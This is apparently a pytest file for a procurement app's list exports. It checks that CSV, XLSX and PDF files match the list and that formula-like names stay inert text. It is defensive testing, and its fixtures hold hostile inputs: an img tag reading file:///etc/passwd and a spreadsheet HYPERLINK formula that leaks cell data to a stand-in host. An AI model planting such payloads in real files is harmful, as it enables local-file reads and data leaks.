"""Exports of a list: CSV with a BOM, XLSX and PDF, read back and compared with the list."""

import csv
import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from procurement.exports import COLUMNS
from procurement.line_services import MaterialInput, add_material_line, add_product_line
from procurement.services import ProjectInput, create_list, create_project
from tests import factories
from tests.procurement.conftest import catalogue_product, lapse_certificate, make_project_list
from tests.spreadsheet_check import csv_rows, live_csv_formulas, live_xlsx_formulas

HOSTILE = '<img src="file:///etc/passwd">'


@pytest.fixture
def exported(client, login, session, officer, maker):
    """Return (list, lines as expected) for a list of three lines, one of them lapsed."""
    _project, item = make_project_list(session, officer)
    cement = catalogue_product(
        session, maker, "cement", gwp=655, number="GZGBM-2026-CEM-000101", name="黔峰 P·O 42.5 水泥"
    )
    glass = catalogue_product(
        session, maker, "flat-glass", gwp=1000, number="GZGBM-2026-FLAGLA-000102", name="浮法玻璃"
    )
    for product, quantity, price in ((cement, "120.5", "455.50"), (glass, "30", "3200")):
        add_product_line(
            session=session,
            actor=officer,
            list_id=item.id,
            product_id=product.id,
            quantity=quantity,
            unit_price=price,
        )
    lime = factories.category(session, "lime")
    add_material_line(
        session=session,
        actor=officer,
        list_id=item.id,
        data=MaterialInput(
            lime.id, f"生石灰 {HOSTILE}", "开阳县某石灰厂", Decimal("5"), Decimal("700")
        ),
    )
    lapse_certificate(session, glass, "suspended")
    login(officer)
    expected = [
        [
            "1",
            "水泥",
            "必选类",
            "黔峰 P·O 42.5 水泥",
            "GZGBM-2026-CEM-000101",
            "绿色（证书有效）",
            "是",
            "120.5",
            "t",
            "455.5",
            "54887.75",
            "78927.5",
        ],
        [
            "2",
            "平板玻璃",
            "必选类",
            "浮法玻璃",
            "GZGBM-2026-FLAGLA-000102",
            "证书暂停",
            "否",
            "30",
            "t",
            "3200",
            "96000",
            "30000",
        ],
        [
            "3",
            "石灰",
            "可选类",
            f"生石灰 {HOSTILE}",
            "",
            "非目录材料",
            "否",
            "5",
            "t",
            "700",
            "3500",
            "5950",
        ],
    ]
    return item, expected


def _comparable(row: list) -> list[str]:
    """Pick the columns the fixture states, as normalised text."""
    picked = [row[i] for i in (0, 1, 2, 3, 5, 7, 8, 9, 10, 11, 12, 14)]
    out = []
    for value in picked:
        value = "" if value is None else str(value)
        if re.fullmatch(r"-?\d+\.\d+", value):
            value = value.rstrip("0").rstrip(".")
        out.append(value)
    return out


def test_csv_has_a_bom_and_reads_back_equal(client, exported):
    item, expected = exported
    response = client.get(f"/procurement/lists/{item.id}/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(rows[0]) == COLUMNS
    assert [_comparable(r) for r in rows[1:]] == expected
    assert "证书暂停" in rows[2][-1]  # the lapse flag
    assert rows[1][-1] == ""


def test_xlsx_reads_back_equal(client, exported):
    item, expected = exported
    response = client.get(f"/procurement/lists/{item.id}/export.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.get_data()), read_only=True)
    assert book.sheetnames == ["清单", "合规核查"]
    rows = list(book["清单"].iter_rows(values_only=True))
    assert rows[0] == COLUMNS
    assert [_comparable(list(r)) for r in rows[1:]] == expected
    assert isinstance(rows[1][9], (int, float))  # numbers stay numbers
    summary = dict((k, v) for k, v in book["合规核查"].iter_rows(values_only=True) if k != "原因")
    assert summary["结论"] == "不符合绿色建材政府采购要求"
    reasons = [v for k, v in book["合规核查"].iter_rows(values_only=True) if k == "原因"]
    assert any("浮法玻璃" in r and "证书暂停" in r for r in reasons)
    assert any("还需 1 种" in r for r in reasons)


def test_pdf_has_the_certificate_numbers_and_the_panel(client, exported):
    item, _expected = exported
    response = client.get(f"/procurement/lists/{item.id}/export.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    reader = PdfReader(io.BytesIO(response.get_data()))
    text = re.sub(r"\s+", "", "".join(page.extract_text() for page in reader.pages))
    assert "GZGBM-2026-CEM-000101" in text
    assert "GZGBM-2026-FLAGLA-000102" in text
    assert "绿色建材政府采购清单" in text
    assert "不符合绿色建材政府采购要求" in text
    assert "贵阳市第一中学新校区" in text
    assert re.sub(r"\s+", "", HOSTILE) in text  # printed as text, not fetched
    fonts = {
        str(font["/BaseFont"])
        for page in reader.pages
        for font in page["/Resources"]["/Font"].values()
        if "/BaseFont" in font.get_object()
    }
    # The cut document faces when `make install` made them, else the full system faces; in
    # both, headings in a real bold face, not a thickened regular.
    cjk = {name.split("+")[-1] for name in fonts} - {"DejaVu-Sans-Mono", "DejaVu-Sans-Mono-Bold"}
    assert cjk in (
        {"GBM-Sans-SC", "GBM-Sans-SC-Bold"},
        {"Noto-Sans-CJK-SC", "Noto-Sans-CJK-SC-Bold"},
    ), fonts


# --- text that a spreadsheet would run as a formula ---------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://x?d="&A1,"水泥")'


@pytest.fixture
def formula_list(client, login, session, officer, maker):
    """Return a list whose project, product, material and supplier are named like formulas."""
    project = create_project(
        session=session,
        actor=officer,
        data=ProjectInput(
            name="=1+2", code="GZ-2026-099", project_type="school", division_code="520100"
        ),
    )
    item = create_list(session=session, actor=officer, project_id=project.id, name="@SUM(A1)")
    cement = catalogue_product(session, maker, "cement", gwp=655, name=FORMULA_NAME)
    add_product_line(
        session=session,
        actor=officer,
        list_id=item.id,
        product_id=cement.id,
        quantity="10",
        unit_price="455.50",
    )
    lime = factories.category(session, "lime")
    add_material_line(
        session=session,
        actor=officer,
        list_id=item.id,
        data=MaterialInput(lime.id, "=1+2", "-2+3", Decimal("5"), Decimal("700")),
    )
    session.commit()
    login(officer)
    return item


def test_csv_runs_no_formula(client, formula_list):
    data = client.get(f"/procurement/lists/{formula_list.id}/export.csv").get_data()
    assert live_csv_formulas(data) == []
    lines = {row[3]: row for row in csv_rows(data)[1:]}
    assert set(lines) == {"'" + FORMULA_NAME, "'=1+2"}
    assert lines["'=1+2"][4] == "'-2+3"
    quantity, unit, price, value = lines["'=1+2"][9:13]
    assert [Decimal(quantity), unit, Decimal(price), Decimal(value)] == [5, "t", 700, 3500]


def test_xlsx_runs_no_formula(client, formula_list):
    data = client.get(f"/procurement/lists/{formula_list.id}/export.xlsx").get_data()
    assert live_xlsx_formulas(data) == []
    book = load_workbook(io.BytesIO(data))
    lines = {row[3].value: row for row in book["清单"].iter_rows(min_row=2)}
    assert set(lines) == {FORMULA_NAME, "=1+2"}  # shown as typed, kept as text
    assert all(cell.data_type == "s" for cell in lines[FORMULA_NAME][1:6])
    assert lines["=1+2"][4].value == "-2+3"
    assert [cell.value for cell in lines["=1+2"][9:13]] == [5, "t", 700, 3500]
    summary = {heading.value: text for heading, text in book["合规核查"].iter_rows()}
    assert summary["项目"].value == "=1+2（GZ-2026-099）"
    assert summary["清单"].value == "@SUM(A1)"
